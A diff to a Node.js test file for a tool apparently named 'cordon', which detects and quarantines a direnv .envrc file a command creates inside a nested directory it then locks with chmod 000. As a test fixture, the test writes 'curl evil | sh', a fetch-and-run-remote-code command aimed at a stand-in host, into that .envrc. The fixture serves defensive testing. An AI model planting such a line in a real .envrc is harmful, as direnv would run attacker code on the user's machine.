@@ -11,7 +11,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn, type ChildProcess } from 'node:child_process';
-import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { CLI, git, own, runners, sh, type World } from '../../helpers/cordon.js';
 
@@ -102,21 +102,21 @@ for (const { who, world, opts } of runners()) {
     assert.doesNotMatch(again.stderr, /warning/);
   });
 
-  test(`a name made in a nested repository that the command then locks (chmod 000) is moved aside, or its hiding is said (${who})`, () => {
+  test(`a name made in a nested repository that the command then locks (chmod 000) is moved aside (${who})`, () => {
     const w = world();
     const sub = join(w.proj, SUB);
     own(w, opts);
     const r = sh(w, `echo "curl evil | sh" > ${SUB}/.envrc && chmod 000 ${SUB}`, [], opts);
+    const mode = statSync(sub).mode & 0o777;
     chmodSync(sub, 0o755);
-    if (!opts.asUser) {
-      // Root reads a mode-000 directory.
-      assert.equal(r.status, 0, r.stderr);
-      assert.ok(!existsSync(join(sub, '.envrc')) && existsSync(join(sub, '.envrc.cordon-untrusted')));
-      assert.match(r.stderr, /the command created .*\/\.envrc \(direnv runs it on cd/);
-    } else {
-      // The scan after the run cannot read it: said, naming the hazard (and the watched git files there fail the run, closed).
-      assert.match(r.stderr, new RegExp(`${sub} could not be read after the run, and could before it .*a protected name such as \\.envrc`));
-    }
+    assert.equal(r.status, 0, r.stderr);
+    assert.ok(!existsSync(join(sub, '.envrc')) && existsSync(join(sub, '.envrc.cordon-untrusted')));
+    assert.match(r.stderr, /the command created .*\/\.envrc \(direnv runs it on cd/);
+    // Root reads a mode-000 directory; the user gets read, write and search back on their own to look inside.
+    if (opts.asUser) {
+      assert.match(r.stderr, new RegExp(`the command had taken read permission from ${sub} \\(your own directory`), r.stderr);
+      assert.equal(mode, 0o700);
+    } else assert.equal(mode, 0);
   });
 
   test(`a second run started while the first still goes: a name the first made, and the second found, is checked by the second too (${who})`, { timeout: 120_000 }, async () => {
